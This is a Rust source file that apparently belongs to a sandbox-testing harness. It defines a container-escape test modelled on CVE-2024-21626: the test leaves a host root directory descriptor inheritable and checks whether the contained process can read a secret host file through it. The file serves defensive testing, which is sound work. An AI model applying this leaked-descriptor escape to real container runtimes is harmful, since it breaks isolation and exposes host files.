//! A way out of the root directory that somebody has left open.

use std::fs::File;
use std::os::fd::AsRawFd;

use nix::fcntl::{FcntlArg, FdFlag, fcntl};
use process::Step;

use crate::attack::attacker::{A_FILE, read_by_descriptor};
use crate::attack::target::Attack;

pub const ATTACK: Attack = Attack {
    name: "descriptor",
    title: "use a forgotten descriptor",
    tries: "the runtime was started with a directory of the host open, by accident. Look \
            through the descriptors for one from which a host's file can be opened.",
    why: "the process closes what it has inherited before it executes the command. runc \
          forgot one in 2024, which was enough to leave any container.",
    reference: "CVE-2024-21626, close_range(2)",
    stopped_by: 0,
    run: |target| {
        let root = File::open("/").step(|| "open /")?;
        // Our children inherit all that is not closed on exec.
        fcntl(&root, FcntlArg::F_SETFD(FdFlag::empty())).step(|| "let / be inherited")?;
        let said = target.attack::<&str>(&[], &[&root.as_raw_fd().to_string()])?;
        Ok(said.has_read(target.secret, A_FILE))
    },
    inside: |_| read_by_descriptor(),
};
